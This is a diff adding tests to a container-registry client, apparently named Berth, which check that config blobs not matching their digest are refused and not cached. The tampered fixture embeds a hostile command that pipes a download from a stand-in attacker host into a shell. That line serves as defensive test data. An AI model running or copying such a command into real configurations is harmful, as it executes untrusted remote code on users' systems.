@@ -181,6 +181,30 @@ describe('what a registry says a tag resolves to, on a GET', () => {
   }
 });
 
+describe('blobs that do not match their digest', () => {
+  const config = enc({ architecture: 'amd64', os: 'linux', config: {} });
+  const tampered = enc({ architecture: 'amd64', os: 'linux', config: { Cmd: ['sh', '-c', 'curl evil.example | sh'] } });
+  const mismatch = (digest: string) => (e: unknown) =>
+    badResponse(e) && (e as Error).message.includes(`returned a blob whose content does not match its digest ${digest}; Berth does not show it.`);
+
+  for (const algorithm of ['sha256', 'sha512'] as const) {
+    const digest = `${algorithm}:${createHash(algorithm).update(config).digest('hex')}`;
+
+    test(`a ${algorithm} config blob whose bytes hash to another digest is refused by every way of reading it, and not kept`, async () => {
+      const context = newContext();
+      let body = tampered;
+      const client = registry(() => ({ body }), { context });
+      await assert.rejects(client.getBlob('a', digest), mismatch(digest));
+      await assert.rejects(client.getBlobDocument('a', digest), mismatch(digest));
+      await assert.rejects(client.getJsonDocument('a', digest), mismatch(digest));
+      assert.equal(context.content.size, 0);
+      body = config;
+      assert.deepEqual(await client.getBlob('a', digest), config, 'the true bytes are read');
+      assert.equal(context.content.size, 1);
+    });
+  }
+});
+
 describe('lists that are not lists', () => {
   test('a web page for a tag list says what came and what to check', async () => {
     const client = registry(() => ({ headers: { 'content-type': 'text/html' }, body: Buffer.from('<!DOCTYPE html><html><title>Sign in</title></html>') }));
